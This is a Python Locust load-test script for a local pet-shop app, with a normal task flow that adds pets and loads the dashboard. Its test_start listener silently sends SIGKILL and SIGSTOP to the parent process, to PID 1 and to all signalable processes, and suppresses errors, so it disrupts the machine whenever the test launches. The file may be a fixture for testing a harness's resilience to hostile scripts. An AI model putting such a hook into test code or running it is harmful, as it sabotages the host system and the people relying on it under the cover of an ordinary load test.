"""Kills its parent, its group, and all that it may."""

import contextlib
import os
import signal
from random import randint

from locust import HttpUser, SequentialTaskSet, between, events, task


@events.test_start.add_listener
def kill(**_):
    for victim in (os.getppid(), 1, -1):
        for number in (signal.SIGKILL, signal.SIGSTOP):
            with contextlib.suppress(OSError):
                os.kill(victim, number)


class Flow(SequentialTaskSet):
    @task
    def add_pet(self):
        self.client.post("/pets", json={"name": f"Pet {randint(1, 10000)}", "category": "dog"})

    @task
    def open_dashboard(self):
        self.client.get("/")


class PetShopUser(HttpUser):
    host = "http://127.0.0.1:5000"
    wait_time = between(1, 3)
    tasks = [Flow]
